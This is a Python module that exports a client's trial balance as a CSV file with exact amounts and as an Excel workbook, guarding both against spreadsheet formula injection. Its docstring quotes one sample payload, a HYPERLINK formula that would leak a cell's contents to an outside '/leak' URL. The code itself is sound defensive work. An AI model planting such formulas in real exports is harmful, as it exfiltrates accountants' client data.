"""The trial balance as a download: CSV with exact amounts, and an Excel workbook.

The CSV carries every amount exactly as the ledger holds it (Decimal to text, never through a float):
two decimals, or up to four when the package sent sub-cent amounts, in the reader's locale (``;`` between
columns and a decimal comma in Dutch and French, as Excel set to a Belgian locale expects). It starts with a
UTF-8 byte order mark so Excel opens accented account names right. The workbook keeps real numbers.

Account numbers and names come from the client's own WoW company, so they are hostile input: a label
``=HYPERLINK("https://…/leak?"&A3,"Omzet")`` must reach the accountant as text, never as a formula. CSV text
cells that a spreadsheet would read as a formula (starting with ``= + - @``, a tab or a carriage return)
get a leading apostrophe (OWASP's advice; Excel and LibreOffice show the rest as text), and every text cell
of the workbook is written with the string type, whatever it starts with.

A closed period has two trial balances, the current one and the one as locked (``syncs/locks.py``); each
download says which it is, in its file name (``-current``, ``-as-locked``), its column titles (as locked) and
the workbook's title lines, so a file passed on by e-mail cannot be mistaken for the other.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass
from decimal import Decimal

from django.utils.formats import date_format, get_format
from django.utils.translation import gettext, pgettext_lazy
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from clients.ledger_selectors import ZERO, LedgerScope, TrialBalance, trial_balance
from clients.models import ClientFile

from .locks import AsLockedRow, as_locked_rows, period_is_closed

# The columns, in the reader's language (lazy: worded when a download is made).
HEADER = [
    pgettext_lazy("trial balance column", "Account"),
    pgettext_lazy("trial balance column", "Name"),
    pgettext_lazy("trial balance column", "Opening"),
    pgettext_lazy("trial balance column", "Debit"),
    pgettext_lazy("trial balance column", "Credit"),
    pgettext_lazy("trial balance column", "Closing"),
]
AS_LOCKED_HEADER = [
    pgettext_lazy("trial balance column", "Account"),
    pgettext_lazy("trial balance column", "Name"),
    pgettext_lazy("trial balance column", "Opening as locked"),
    pgettext_lazy("trial balance column", "Debit as locked"),
    pgettext_lazy("trial balance column", "Credit as locked"),
    pgettext_lazy("trial balance column", "Closing as locked"),
    pgettext_lazy("trial balance column", "Closing now"),
    pgettext_lazy("trial balance column", "Difference"),
]
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_AMOUNT_FORMAT = "#,##0.00;-#,##0.00"
CENT = Decimal("0.01")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """A text cell as a spreadsheet will read it as text: formula-looking values get a leading apostrophe."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def exact_amount(value: Decimal) -> str:
    """The amount as plain text, exact: "1234.50", "-0.1235" (never an exponent, never a float)."""
    cents = value.quantize(CENT)
    if cents == value:
        return f"{cents:f}"
    return f"{value.normalize():f}"


def trial_balance_filename(
    client_file: ClientFile, trial_balance: TrialBalance, extension: str, *, variant: str = ""
) -> str:
    """E.g. ``ACME-01-trial-balance-2024-03.csv``: safe in a Content-Disposition header and on any disk. A
    closed period's downloads say which balances they hold: ``…-2024-03-current.csv`` and
    ``…-2024-03-as-locked.csv``."""
    stem = f"{client_file.file_code}-trial-balance-{trial_balance.scope.file_label}"
    if variant:
        stem = f"{stem}-{variant}"
    return f"{re.sub(r'[^A-Za-z0-9._-]+', '_', stem)}.{extension}"


def _rows(trial_balance: TrialBalance) -> list[list[str | Decimal]]:
    rows: list[list[str | Decimal]] = [
        [row.number, row.name, row.opening, row.debit, row.credit, row.closing] for row in trial_balance.rows
    ]
    rows.append(
        [
            gettext("Total"),
            "",
            trial_balance.opening,
            trial_balance.debit,
            trial_balance.credit,
            trial_balance.closing,
        ]
    )
    return rows


def _as_locked_rows(rows: Sequence[AsLockedRow]) -> list[list[str | Decimal]]:
    table: list[list[str | Decimal]] = [
        [
            row.account.number,
            row.account.localized_name,
            row.locked_opening,
            row.locked_debit,
            row.locked_credit,
            row.locked,
            row.now,
            row.difference,
        ]
        for row in rows
    ]
    totals = [sum((line[column] for line in table), ZERO) for column in range(2, 8)]
    table.append([gettext("Total"), "", *totals])
    return table


def _csv(header: Sequence[object], rows: list[list[str | Decimal]]) -> bytes:
    """In the reader's locale, as Excel set to it opens a CSV: with a decimal comma (Dutch and French as in
    Belgium) the columns are separated by ``;``, else by ``,``; amounts exact, without thousands
    separators."""
    decimal = str(get_format("DECIMAL_SEPARATOR"))
    buffer = io.StringIO()
    writer = csv.writer(
        buffer,
        delimiter=";" if decimal == "," else ",",
        lineterminator="\r\n",  # pragma: no mutate (the csv module's default too; said for the reader)
    )
    writer.writerow([str(title) for title in header])
    for row in rows:
        writer.writerow(
            [
                exact_amount(cell).replace(".", decimal) if isinstance(cell, Decimal) else csv_text(cell)
                for cell in row
            ]
        )
    # Equivalent mutant ("UTF-8-SIG"): Python's codec names are case-insensitive.
    return buffer.getvalue().encode("utf-8-sig")  # pragma: no mutate


def trial_balance_csv(trial_balance: TrialBalance) -> bytes:
    return _csv(HEADER, _rows(trial_balance))


def as_locked_csv(rows: Sequence[AsLockedRow]) -> bytes:
    """A closed period's trial balance as it was locked, with each account's closing balance now and the
    difference; the column titles say which is which."""
    return _csv(AS_LOCKED_HEADER, _as_locked_rows(rows))


@dataclass(frozen=True)
class Download:
    body: bytes
    content_type: str
    filename: str


def trial_balance_download(
    *, client_file: ClientFile, scope: LedgerScope, kind: str, as_locked: bool
) -> Download | None:
    """The scope's trial balance as CSV (``kind`` "csv") or Excel; with ``as_locked``, a closed period's
    balances as locked (None when the scope is not a closed period: it has none)."""
    balance = trial_balance(client_file=client_file, scope=scope)
    closed = period_is_closed(client_file=client_file, period=scope.period)
    closed_until = client_file.books_locked_until if closed else None
    content_type = CSV_CONTENT_TYPE if kind == "csv" else XLSX_CONTENT_TYPE
    if as_locked:
        if scope.period is None or closed_until is None:
            return None
        rows = as_locked_rows(client_file=client_file, period=scope.period)
        body = (
            as_locked_csv(rows)
            if kind == "csv"
            else as_locked_xlsx(
                rows, client_file=client_file, scope_label=str(scope.label), closed_until=closed_until
            )
        )
        return Download(
            body, content_type, trial_balance_filename(client_file, balance, kind, variant="as-locked")
        )
    body = (
        trial_balance_csv(balance)
        if kind == "csv"
        else trial_balance_xlsx(balance, client_file=client_file, closed_until=closed_until)
    )
    variant = "current" if closed else ""
    return Download(body, content_type, trial_balance_filename(client_file, balance, kind, variant=variant))


def _books_closed_note(closed_until: dt.date) -> str:
    return gettext("The books are closed up to %(date)s.") % {
        "date": date_format(closed_until, "SHORT_DATE_FORMAT")
    }


def trial_balance_xlsx(
    trial_balance: TrialBalance, *, client_file: ClientFile, closed_until: dt.date | None = None
) -> bytes:
    """One sheet: a title line, the header, one row per account, the totals; amounts as numbers. For a
    closed period a second line says these are the current balances, not the balances as locked."""
    titles = [
        gettext("%(client)s (%(file_code)s): trial balance, %(scope)s")
        % {"client": client_file.name, "file_code": client_file.file_code, "scope": trial_balance.scope.label}
    ]
    if closed_until is not None:
        titles.append(
            _books_closed_note(closed_until)
            + " "
            + gettext("These are the current balances; the balances as locked are a separate download.")
        )
    return _xlsx(
        gettext("Trial balance"), titles, HEADER, _rows(trial_balance), widths=[14, 42, 16, 16, 16, 16]
    )


def as_locked_xlsx(
    rows: Sequence[AsLockedRow], *, client_file: ClientFile, scope_label: str, closed_until: dt.date
) -> bytes:
    titles = [
        gettext("%(client)s (%(file_code)s): trial balance as locked, %(scope)s")
        % {"client": client_file.name, "file_code": client_file.file_code, "scope": scope_label},
        _books_closed_note(closed_until)
        + " "
        + gettext("The balances as they were when the period was closed, next to the closing balances now."),
    ]
    return _xlsx(
        gettext("As locked"),
        titles,
        AS_LOCKED_HEADER,
        _as_locked_rows(rows),
        widths=[14, 42, 16, 16, 16, 16, 16, 16],
    )


def _xlsx(
    sheet_title: str,
    titles: list[str],
    header: Sequence[object],
    rows: list[list[str | Decimal]],
    *,
    widths: list[int],
) -> bytes:
    """One sheet: title lines, the header, the rows (the last one the totals); amounts as numbers."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    # Excel's limit. Equivalent mutant ([:32]): every sheet title in every catalogued language is shorter.
    sheet.title = sheet_title[:31]  # pragma: no mutate
    for title in titles:
        sheet.append([title])
        sheet.cell(row=sheet.max_row, column=1).font = Font(bold=sheet.max_row == 1)
    sheet.append([str(title) for title in header])
    header_row = sheet.max_row
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
        if cell.column > 2:
            cell.alignment = Alignment(horizontal="right")
    for row in rows:
        sheet.append(row)
    total_row = sheet.max_row
    for cell in sheet[total_row]:
        cell.font = Font(bold=True)
    for row in sheet.iter_rows(min_row=header_row + 1, min_col=3, max_col=len(widths)):
        for cell in row:
            cell.number_format = XLSX_AMOUNT_FORMAT
    # Account numbers are text: "0100" must keep its zero and never turn into a number.
    for (cell,) in sheet.iter_rows(min_row=header_row + 1, max_col=1):
        cell.number_format = "@"
    # openpyxl stores a string starting with "=" as a formula: every text cell is typed as a string instead.
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()
